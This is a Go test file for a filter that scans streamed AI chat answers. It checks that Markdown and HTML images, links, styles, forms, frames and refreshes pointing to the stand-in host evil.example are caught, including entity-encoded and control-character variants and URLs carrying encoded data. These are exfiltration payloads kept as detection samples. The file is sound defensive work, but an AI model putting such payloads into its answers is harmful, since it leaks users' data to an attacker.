package guard

import (
	"strings"
	"testing"
)

// Addresses are seen as renderers of Markdown and browsers read them.
func TestLinks(t *testing.T) {
	g := standard(t)
	data := strings.Repeat("QUJD", 20)
	for name, tc := range map[string]struct{ text, want string }{
		"an image, a letter by its number":         {"![x](&#104;ttps://evil.example/a.png)", imageAway},
		"an image, all by their names":             {"![x](&#x68;ttps&colon;&sol;&sol;evil.example/a.png)", imageAway},
		"an image, numbers without an end":         {`<img src="&#104ttps&#58//evil.example/a.png">`, imageAway},
		"an image in HTML, by names":               {`<img src="https&colon;&sol;&sol;evil.example/a.png">`, imageAway},
		"a link, by names":                         {"[x](https&colon;//evil.example/?d=" + data + ")", linkData},
		"a tab in the scheme, by its name":         {`<img src="ht&Tab;tps://evil.example/a.png">`, imageAway},
		"a line feed in the scheme, by its name":   {`<img src="ht&NewLine;tps://evil.example/a.png">`, imageAway},
		"a tab in the scheme":                      {"<img src=\"ht\ttps://evil.example/a.png\">", imageAway},
		"a line feed in the scheme":                {"<img src='htt\nps://evil.example/a.png'>", imageAway},
		"a line feed between the slashes":          {"<img src='https:/\n/evil.example/a.png'>", imageAway},
		"a line feed before the data":              {"<a href='https://evil.example/?d=" + data[:40] + "\n" + data[40:] + "'>x</a>", linkData},
		"a control character before it":            {"<img src=\"\x01https://evil.example/a.png\">", imageAway},
		"no slashes":                               {"![x](https:evil.example/a.png)", imageAway},
		"no slashes in HTML":                       {`<img src=https:evil.example/a.png>`, imageAway},
		"slashes that lean, in HTML":               {`<img src="https:\\evil.example\a.png">`, imageAway},
		"data behind a slash that leans":           {`[x](https://evil.example\` + data + ")", linkData},
		"no scheme":                                {"![x](//evil.example/a.png)", imageAway},
		"no scheme in HTML":                        {`<img src='//evil.example/a.png'>`, imageAway},
		"no scheme, slashes that lean":             {`<img src='\\evil.example/a.png'>`, imageAway},
		"no scheme, one that leans":                {`![x](/\evil.example/a.png)`, imageAway},
		"no scheme, a link with data":              {"[x](//evil.example/?d=" + data + ")", linkData},
		"slashes with backslashes, in Markdown":    {`![x](https:\/\/evil.example/a.png)`, imageAway},
		"a colon with a backslash":                 {`![x](https\://evil.example/a.png)`, imageAway},
		"an image with a title":                    {`![x](https://evil.example/a.png "title")`, imageAway},
		"an image in angle brackets":               {"![x](<https://evil.example/a.png>)", imageAway},
		"an image with brackets in its text":       {"![a [b] c](https://evil.example/a.png)", imageAway},
		"an image by reference":                    {"![x][r]\n\n[r]: <https://evil.example/a.png>\n", imageAway},
		"a link by reference with data":            {"[x][r]\n\n[r]:\n  https://evil.example/?d=" + data + "\n", imageAway},
		"a reference, by names":                    {"![x][r]\n\n[r]: &#104;ttps://evil.example/a.png\n", imageAway},
		"an autolink":                              {"<https://evil.example/" + data + ">", linkData},
		"capitals":                                 {"<IMG SRC=HTTPS://EVIL.EXAMPLE/A.PNG>", imageAway},
		"the second of several":                    {`<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">`, imageAway},
		"behind a > in another attribute":          {`<img alt=">" src="https://evil.example/b.png">`, imageAway},
		"in a style":                               {`<p style="background: url( 'https://evil.example/b.png' )">`, imageAway},
		"in a style sheet":                         {"<style>p { background: url(//evil.example/b.png) }</style>", imageAway},
		"a style sheet of others":                  {`<style>@import "https://evil.example/b.css";</style>`, imageAway},
		"a set of images in a style":               {`<style>p { background: image-set("https://evil.example/b.png" 1x) }</style>`, imageAway},
		"in SVG":                                   {`<svg><image href="https://evil.example/b.png"/></svg>`, imageAway},
		"in older SVG":                             {`<svg><use xlink:href="https://evil.example/b.svg#x"/></svg>`, imageAway},
		"a style sheet by link":                    {`<link rel=stylesheet href="https://evil.example/b.css">`, imageAway},
		"another page after a second":              {`<meta http-equiv=refresh content="0;url=https://evil.example/">`, imageAway},
		"another page, without a name":             {`<meta http-equiv="refresh" content="0; https://evil.example/">`, imageAway},
		"another base":                             {`<base href="https://evil.example/">`, imageAway},
		"a form":                                   {`<form action="https://evil.example/">`, imageAway},
		"a button of a form":                       {`<button formaction="//evil.example/">`, imageAway},
		"a frame":                                  {`<iframe src = "https://evil.example/">`, imageAway},
		"who is told of a click":                   {`<a href="#" ping="https://evil.example/">x</a>`, imageAway},
		"a tag over lines":                         {"<img\n  alt='x'\n  src='https://evil.example/a.png'\n>", imageAway},
		"a link with data in HTML":                 {`<a href="https://evil.example/?d=` + data + `">x</a>`, linkData},
		"a link in older SVG":                      {`<a xlink:href="https://evil.example/?d=` + data + `">x</a>`, linkData},
		"a link without":                           {`<a class="x" href="https://docs.example/a">x</a>`, ""},
		"references in an ordinary link":           {`<a href="https://docs.example/a?b=1&amp;c=2">x</a> [y](https://docs.example/?a=1&b=2)`, ""},
		"an image from here":                       {"![x](a.png) <img src=\"/b&amp;c.png\">\n<img\nsrc='data:image/png;base64,QUJD'>", ""},
		"prose with colons":                        {"Note: use https: it is safer; http:80 is not. As in http: 404, or C:\\\\Users\\\\x.", ""},
		"a page's own words":                       {`<meta name="generator" content="Made by it (https://docs.example/)">`, ""},
		"an autolink with a query":                 {"<https://docs.example/a?b=c&d=1> and <http://docs.example/?kb=https://docs.example/x>", ""},
		"another page, by names":                   {`<meta http-equiv="refresh" content=" &#48;&semi;URL=//evil.example/">`, imageAway},
		"a function":                               {"get_url(\"https://docs.example/x\"), client.url('https://docs.example/y')", ""},
		"a name of a vocabulary":                   {`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`, ""},
		"a comparison":                             {"if a <b && url == \"https://docs.example/x\" { f(a) }", ""},
		"generics":                                 {"var m Map<String, String> = of(\"https://docs.example/x\")", ""},
		"code with an address":                     {"```python\nrequests.get(\"https://docs.example/a\\n\")\nx = d['https:']\n// see //server/share\n```", ""},
		"a Makefile and YAML":                      {"all: http\nurl: https://docs.example/a\nproxy: {http: proxy.corp.example, https: proxy.corp.example}", ""},
		"a reference in prose":                     {"Write &lt;img&gt; and AT&T; a && b; &#104;ttps is h.", ""},
		"HTML without addresses":                   {"<div class=\"a\n b\" data-x='1 &amp; 2'>\n<p title=\"5 > 3\">it's</p></div>", ""},
		"a lambda":                                 {"f = x => x <y ? a : b; // https://docs.example/x", ""},
		"an address in a comment of HTML":          {"<!-- see https://docs.example/x -->", ""},
		"a link that is code":                      {"`[a](https://docs.example)` and `![a](b.png)`", ""},
		"data behind commas":                       {"[x](https://evil.example/" + strings.Repeat("QUJD,", 20) + ")", linkData},
		"data behind semicolons":                   {`<a href="https://evil.example/` + strings.Repeat("QUJD;", 20) + `">`, linkData},
		"data behind a named mark":                 {"[x](https://evil.example/a&quest;d=" + data + ")", linkData},
		"a long attribute before it":               {`<img alt="` + prose(5000) + `" src="ht&Tab;tps://evil.example/a.png">`, imageAway},
		"a secret by names":                        {`<img src="a.png?AKIAIOSF&#79;DNN7EXAMPLE">`, "aws-key"},
		"an attribute that is no address, and one": {`<input value="a" placeholder="name"> see https://docs.example/`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			for _, parts := range [][]string{{tc.text}, strings.Split(tc.text, "")} {
				a := g.Prompt(&Prompt{Route: chat, Spans: []Span{{User, "hello"}}}).Answer
				why, released := "", 0
				for _, p := range parts {
					safe, w := a.Add("x", []byte(p))
					if w != "" {
						why = w
						break
					}
					released = safe
				}
				if tc.want == imageAway && strings.Contains(strings.ToLower(tc.text[:released]), "evil.example") {
					t.Errorf("%d parts of %q: %q was released", len(parts), tc.text, tc.text[:released])
				}
				if why == "" {
					why = a.End()
				}
				if (tc.want == "") != (why == "") || !strings.Contains(why, tc.want) {
					t.Errorf("%d parts of %q: got %q, want %q", len(parts), tc.text, why, tc.want)
				}
			}
		})
	}
}
